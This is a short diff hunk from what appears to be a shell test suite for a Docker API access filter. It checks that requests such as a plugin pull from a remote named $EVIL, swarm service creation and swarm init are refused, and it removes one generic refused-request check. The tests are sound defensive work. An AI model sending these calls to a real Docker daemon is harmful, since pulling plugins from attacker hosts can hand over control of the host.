@@ -9,4 +9,3 @@ done
 refused '' -- api POST "/plugins/pull?remote=$EVIL:1&name=x" -H 'Content-Type: application/json' -d '[]'
 refused '' -- api POST /services/create -H 'Content-Type: application/json' -d '{"Name":"x","TaskTemplate":{"ContainerSpec":{"Image":"busybox"}}}'
 refused '' -- docker swarm init --advertise-addr 127.0.0.1
-refused '' -- api POST /something/new
